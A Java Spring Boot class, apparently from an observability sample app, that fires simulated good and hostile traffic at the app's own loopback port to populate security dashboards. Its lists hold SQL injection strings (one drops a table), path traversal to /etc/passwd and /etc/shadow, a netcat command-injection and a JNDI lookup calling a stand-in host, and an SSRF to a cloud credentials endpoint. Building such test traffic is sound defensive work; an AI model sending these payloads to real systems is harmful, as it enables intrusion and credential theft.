package dev.aisd.observability.sample.traffic;

import java.net.URI;
import java.net.http.HttpClient;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.Base64;
import java.util.List;
import java.util.concurrent.ThreadLocalRandom;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.atomic.AtomicLong;
import java.util.concurrent.locks.LockSupport;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

import org.slf4j.Logger;
import org.slf4j.LoggerFactory;

import org.springframework.beans.factory.DisposableBean;
import org.springframework.boot.context.event.ApplicationReadyEvent;
import org.springframework.boot.web.server.context.WebServerInitializedEvent;
import org.springframework.context.event.EventListener;
import org.springframework.core.env.Environment;
import org.springframework.http.HttpHeaders;
import org.springframework.http.MediaType;
import org.springframework.http.client.JdkClientHttpRequestFactory;
import org.springframework.web.client.RestClient;

/**
 * Sends a realistic mix of good and hostile requests to this service, so the metrics
 * and dashboards have something to show: browsing and searching customers, SQL
 * injection probes, scanners hitting honeypots, credential stuffing, scripted clients,
 * bursts that trip the rate limit, URLs the firewall rejects, intrusion probes (path
 * traversal, command injection, SSRF, JNDI lookups), bulk exports and id enumeration,
 * CAPTCHAs solved right and wrong, and card numbers or e-mail addresses sent in URLs.
 * Each simulated client
 * has its own address, sent as {@code X-Forwarded-For} (the service trusts it from the
 * loopback proxy only). Runs on one daemon thread from the moment the application is
 * ready until it shuts down; an attack spike sends hostile scenarios only, faster.
 */
public final class TrafficGenerator implements DisposableBean {

	private static final Logger logger = LoggerFactory.getLogger(TrafficGenerator.class);

	private static final String BROWSER = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) "
			+ "Chrome/131.0 Safari/537.36";

	private static final List<String> BOT_AGENTS = List.of("curl/8.5.0", "python-requests/2.32.3",
			"Scrapy/2.11.2 (+https://scrapy.org)", "Mozilla/5.0 HeadlessChrome/131.0", "Go-http-client/2.0", "");

	private static final List<String> GOOD_QUERIES = List.of("lantern", "rope", "comp", "tent", "stove", "map", "");

	private static final List<String> SQL_INJECTIONS = List.of("' OR 1=1 --", "1 UNION SELECT username, password FROM users",
			"x'; DROP TABLE items; --", "1 AND SLEEP(5)", "' OR 'a'='a", "1 and 1=1",
			"' UNION ALL SELECT table_name FROM information_schema.tables --", "admin'--");

	private static final List<String> HONEYPOTS = List.of("/wp-admin", "/wp-login.php", "/.env", "/.git/config",
			"/phpmyadmin/index.php");

	private static final List<String> FIREWALL_PATHS = List.of("/api/items;jsessionid=0AF3", "/api/items/%252e%252e",
			"/api/items/..;/admin/report", "/api/items/%2e%2e/admin");

	private static final List<String> PROBED_PATHS = List.of("/api/items", "/api/search", "/api/items/export");

	private static final List<String> USERNAMES = List.of("admin", "root", "demo", "test", "guest", "support");

	/** Probes an intrusion scanner sprays over any endpoint's parameters: name, value. */
	private static final List<List<String>> INTRUSION_PROBES = List.of(List.of("file", "../../../../etc/passwd"),
			List.of("template", "..\\..\\windows\\win.ini"), List.of("q", "; cat /etc/passwd"),
			List.of("q", "$(whoami)"), List.of("host", "127.0.0.1 | nc 203.0.113.66 4444"),
			List.of("callback", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
			List.of("image", "http://localhost:8080/actuator/env"), List.of("url", "file:///etc/shadow"),
			List.of("q", "${jndi:ldap://203.0.113.66:1389/a}"));

	/** Well-known test card numbers (Luhn-valid), as carding bots and careless users send them. */
	private static final List<String> CARD_NUMBERS = List.of("4111111111111111", "5555 5555 5555 4444",
			"378282246310005", "4012-8888-8888-1881", "6011111111111117");

	private static final List<String> EMAILS = List.of("jane.doe@example.com", "j.smith+orders@example.org");

	private static final Pattern CAPTCHA_TOKEN = Pattern.compile("\"token\"\\s*:\\s*\"([0-9a-fA-F-]{36})\"");

	private static final Pattern CAPTCHA_QUESTION = Pattern.compile("What is (\\d+) \\+ (\\d+)\\?");

	private final TrafficProperties properties;

	private final RestClient.Builder restClientBuilder;

	private final String demoPassword;

	private final AtomicLong spikeUntilMillis = new AtomicLong();

	private final AtomicLong scenarios = new AtomicLong();

	private volatile int port = -1;

	private volatile Thread thread;

	private volatile boolean running;

	/**
	 * Create a generator.
	 * @param properties its settings
	 * @param restClientBuilder Boot's builder for the client
	 * @param environment where the demo password is read
	 */
	public TrafficGenerator(TrafficProperties properties, RestClient.Builder restClientBuilder,
			Environment environment) {
		this.properties = properties;
		this.restClientBuilder = restClientBuilder;
		this.demoPassword = environment.getProperty("sample.security.demo-password", "demo-password");
		if (properties.attackSpike()) {
			this.spikeUntilMillis.set(Long.MAX_VALUE);
		}
	}

	@EventListener
	void onWebServerInitialized(WebServerInitializedEvent event) {
		// The management server (when on its own port) announces itself too; the
		// application's own server has no namespace.
		if (event.getApplicationContext().getServerNamespace() == null) {
			this.port = event.getWebServer().getPort();
		}
	}

	@EventListener
	void onApplicationReady(ApplicationReadyEvent event) {
		if (this.port <= 0 || this.running) {
			return;
		}
		HttpClient httpClient = HttpClient.newBuilder()
			.connectTimeout(this.properties.requestTimeout())
			.followRedirects(HttpClient.Redirect.NEVER)
			.build();
		JdkClientHttpRequestFactory requestFactory = new JdkClientHttpRequestFactory(httpClient);
		requestFactory.setReadTimeout(this.properties.requestTimeout());
		RestClient client = this.restClientBuilder.clone()
			.baseUrl("http://127.0.0.1:" + this.port)
			.requestFactory(requestFactory)
			.build();
		this.running = true;
		Thread worker = new Thread(() -> run(client), "sample-traffic-generator");
		worker.setDaemon(true);
		this.thread = worker;
		worker.start();
		logger.info("Traffic generator sending {} scenarios per second to port {}", this.properties.rate(), this.port);
	}

	/**
	 * Start an attack spike: hostile scenarios only, faster, for a while.
	 * @param seconds how long the spike lasts
	 * @return when the spike ends
	 */
	public Instant startAttackSpike(long seconds) {
		long until = System.currentTimeMillis() + TimeUnit.SECONDS.toMillis(Math.max(1, seconds));
		this.spikeUntilMillis.set(until);
		return Instant.ofEpochMilli(until);
	}

	/**
	 * End an attack spike now.
	 */
	public void stopAttackSpike() {
		this.spikeUntilMillis.set(0);
	}

	/**
	 * Whether an attack spike is under way.
	 * @return whether hostile scenarios only are sent
	 */
	public boolean isAttackSpike() {
		return System.currentTimeMillis() < this.spikeUntilMillis.get();
	}

	/**
	 * Whether the generator thread is running.
	 * @return whether traffic is being sent
	 */
	public boolean isRunning() {
		return this.running;
	}

	/**
	 * Count the scenarios run so far.
	 * @return the number of scenarios
	 */
	public long scenarioCount() {
		return this.scenarios.get();
	}

	@Override
	public void destroy() throws InterruptedException {
		this.running = false;
		Thread worker = this.thread;
		if (worker != null) {
			worker.interrupt();
			worker.join(TimeUnit.SECONDS.toMillis(5));
		}
	}

	private void run(RestClient client) {
		long next = System.nanoTime();
		while (this.running && !Thread.currentThread().isInterrupted()) {
			boolean spike = isAttackSpike();
			try {
				runScenario(client, spike);
			}
			catch (RuntimeException ex) {
				// The service may be shutting down or overloaded; the next scenario tries again.
				logger.debug("Traffic scenario failed", ex);
			}
			this.scenarios.incrementAndGet();
			double rate = Math.max(0.1, this.properties.rate()) * (spike ? Math.max(1, this.properties.spikeMultiplier()) : 1);
			next += (long) (1_000_000_000L / rate);
			long wait = next - System.nanoTime();
			if (wait > 0) {
				LockSupport.parkNanos(wait);
			}
			else if (wait < -1_000_000_000L) {
				// Far behind (the service was slow): do not try to catch up with a flood.
				next = System.nanoTime();
			}
		}
	}

	private void runScenario(RestClient client, boolean spike) {
		ThreadLocalRandom random = ThreadLocalRandom.current();
		int roll = random.nextInt(100);
		if (spike) {
			hostileScenario(client, roll, random);
			return;
		}
		if (roll < 33) {
			get(client, "/api/items", goodClient(random), BROWSER);
		}
		else if (roll < 43) {
			get(client, "/api/items/" + (random.nextInt(10) < 8 ? random.nextInt(1, 4) : 9), goodClient(random),
					BROWSER);
		}
		else if (roll < 54) {
			search(client, pick(GOOD_QUERIES, random), goodClient(random), BROWSER);
		}
		else if (roll < 57) {
			login(client, "demo", this.demoPassword, goodClient(random), random.nextBoolean());
		}
		else if (roll < 59) {
			basic(client, "/api/account", "demo", this.demoPassword, goodClient(random));
		}
		else if (roll < 60) {
			get(client, "/api/account", goodClient(random), BROWSER);
		}
		else if (roll < 62) {
			get(client, "/api/items/export?limit=" + random.nextInt(10, 101), goodClient(random), BROWSER);
		}
		else if (roll < 64) {
			// A customer asked to prove being human; half of them browse with the user agent
			// stripped by a privacy extension, which the bot detector flags: their solved
			// CAPTCHA shows that verdict was a false positive.
			captcha(client, goodClient(random), random.nextBoolean() ? BROWSER : "", random.nextInt(10) < 9,
					random);
		}
		else if (roll < 65) {
			// A customer pasting personal or payment data into the search box.
			search(client, random.nextBoolean() ? pick(EMAILS, random) : pick(CARD_NUMBERS, random),
					goodClient(random), BROWSER);
		}
		else {
			hostileScenario(client, random.nextInt(100), random);
		}
	}

	private void hostileScenario(RestClient client, int roll, ThreadLocalRandom random) {
		String attacker = attacker(random);
		if (roll < 18) {
			search(client, pick(SQL_INJECTIONS, random), attacker, pick(BOT_AGENTS, random));
		}
		else if (roll < 25) {
			get(client, pick(HONEYPOTS, random), attacker, pick(BOT_AGENTS, random));
		}
		else if (roll < 37) {
			login(client, pick(USERNAMES, random), "guess-" + random.nextInt(1000), attacker, random.nextBoolean());
		}
		else if (roll < 42) {
			basic(client, "/api/account", pick(USERNAMES, random), "hunter" + random.nextInt(100), attacker);
		}
		else if (roll < 45) {
			basic(client, "/api/admin/report", "demo", this.demoPassword, attacker);
		}
		else if (roll < 56) {
			get(client, "/api/items", attacker, pick(BOT_AGENTS, random));
		}
		else if (roll < 62) {
			// A burst well past the per-client capacity trips the rate limit; more than
			// half of it is refused, which the behaviour detector sees as a request burst
			// and an error burst.
			for (int i = 0; i < 50 && this.running; i++) {
				get(client, "/api/items", attacker, BROWSER);
			}
		}
		else if (roll < 67) {
			get(client, pick(FIREWALL_PATHS, random), attacker, pick(BOT_AGENTS, random));
		}
		else if (roll < 77) {
			List<String> probe = pick(INTRUSION_PROBES, random);
			getWithParameter(client, pick(PROBED_PATHS, random), probe.get(0), probe.get(1), attacker,
					pick(BOT_AGENTS, random));
		}
		else if (roll < 82) {
			get(client, "/api/items/export?limit=" + (1000 * random.nextInt(1, 100)), attacker,
					pick(BOT_AGENTS, random));
		}
		else if (roll < 85) {
			// Walking through item ids to copy the catalogue, most of which do not exist.
			int first = random.nextInt(1, 1000);
			for (int id = first; id < first + 20 && this.running; id++) {
				get(client, "/api/items/" + id, attacker, pick(BOT_AGENTS, random));
			}
		}
		else if (roll < 95) {
			// A bot meeting a CAPTCHA: it mostly fails; a solver service sometimes passes.
			captcha(client, attacker, pick(BOT_AGENTS, random), random.nextInt(10) < 2, random);
		}
		else {
			// Card testing: stolen card numbers sent as query parameters.
			getWithParameter(client, "/api/items", "card", pick(CARD_NUMBERS, random), attacker,
					pick(BOT_AGENTS, random));
		}
	}

	private void getWithParameter(RestClient client, String path, String name, String value, String clientIp,
			String userAgent) {
		client.get()
			.uri(path + "?" + name + "={value}", value)
			.header("X-Forwarded-For", clientIp)
			.header(HttpHeaders.USER_AGENT, userAgent)
			.exchange((request, response) -> response.getStatusCode().value());
	}

	/**
	 * Ask for a CAPTCHA and answer it: rightly when {@code solve}, else with a wrong
	 * answer, or now and then a token that was never issued.
	 */
	private void captcha(RestClient client, String clientIp, String userAgent, boolean solve,
			ThreadLocalRandom random) {
		String challenge = client.post()
			.uri("/api/captcha/challenge")
			.header("X-Forwarded-For", clientIp)
			.header(HttpHeaders.USER_AGENT, userAgent)
			.exchange((request, response) -> response.getStatusCode().is2xxSuccessful()
					? new String(response.getBody().readAllBytes(), StandardCharsets.UTF_8) : null);
		if (challenge == null) {
			return;
		}
		Matcher token = CAPTCHA_TOKEN.matcher(challenge);
		Matcher question = CAPTCHA_QUESTION.matcher(challenge);
		if (!token.find() || !question.find()) {
			return;
		}
		int answer = Integer.parseInt(question.group(1)) + Integer.parseInt(question.group(2));
		if (!solve) {
			answer += random.nextInt(1, 5);
		}
		String sentToken = (!solve && random.nextInt(10) == 0) ? "00000000-0000-0000-0000-000000000000"
				: token.group(1);
		client.post()
			.uri("/api/captcha/verify")
			.header("X-Forwarded-For", clientIp)
			.header(HttpHeaders.USER_AGENT, userAgent)
			.contentType(MediaType.APPLICATION_JSON)
			.body("{\"token\":\"" + sentToken + "\",\"answer\":\"" + answer + "\"}")
			.exchange((request, response) -> response.getStatusCode().value());
	}

	private void get(RestClient client, String path, String clientIp, String userAgent) {
		// A URI, not a template: the hostile paths must reach the service exactly as written.
		client.get()
			.uri(URI.create("http://127.0.0.1:" + this.port + path))
			.header("X-Forwarded-For", clientIp)
			.header(HttpHeaders.USER_AGENT, userAgent)
			.exchange((request, response) -> response.getStatusCode().value());
	}

	private void search(RestClient client, String query, String clientIp, String userAgent) {
		client.get()
			.uri("/api/search?q={q}", query)
			.header("X-Forwarded-For", clientIp)
			.header(HttpHeaders.USER_AGENT, userAgent)
			.exchange((request, response) -> response.getStatusCode().value());
	}

	private void login(RestClient client, String username, String password, String clientIp, boolean json) {
		RestClient.RequestBodySpec request = client.post()
			.uri("/api/login")
			.header("X-Forwarded-For", clientIp)
			.header(HttpHeaders.USER_AGENT, BROWSER);
		if (json) {
			request.contentType(MediaType.APPLICATION_JSON)
				.body("{\"username\":\"" + username + "\",\"password\":\"" + password + "\"}");
		}
		else {
			request.contentType(MediaType.APPLICATION_FORM_URLENCODED)
				.body("username=" + username + "&password=" + password);
		}
		request.exchange((req, response) -> response.getStatusCode().value());
	}

	private void basic(RestClient client, String path, String username, String password, String clientIp) {
		String credentials = Base64.getEncoder()
			.encodeToString((username + ":" + password).getBytes(StandardCharsets.UTF_8));
		client.get()
			.uri(path)
			.header("X-Forwarded-For", clientIp)
			.header(HttpHeaders.USER_AGENT, BROWSER)
			.header(HttpHeaders.AUTHORIZATION, "Basic " + credentials)
			.exchange((request, response) -> response.getStatusCode().value());
	}

	private static String goodClient(ThreadLocalRandom random) {
		return "198.51.100." + random.nextInt(1, 201);
	}

	private static String attacker(ThreadLocalRandom random) {
		return "203.0.113." + random.nextInt(1, 255);
	}

	private static <T> T pick(List<T> values, ThreadLocalRandom random) {
		return values.get(random.nextInt(values.size()));
	}

}
